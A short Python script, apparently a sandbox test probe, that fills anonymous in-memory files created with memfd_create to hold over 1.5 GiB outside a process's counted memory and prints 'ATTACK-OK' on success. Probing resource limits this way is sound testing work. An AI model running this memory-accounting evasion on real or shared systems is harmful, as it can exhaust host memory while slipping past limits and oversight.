# memory that is in no process's resident set and on no counted disk: files in memory, written and never mapped
import os, time

held, keep = 0, []
piece = b"x" * (1 << 20)
try:
    for number in range(40):
        file = os.memfd_create(f"m{number}")
        keep.append(file)
        for _ in range(60):
            held += os.write(file, piece)
except OSError as error:
    print("stopped", error.errno)
time.sleep(0.5)
print("held MiB", held >> 20, "ATTACK-OK" if held >> 20 > 1500 else "", flush=True)
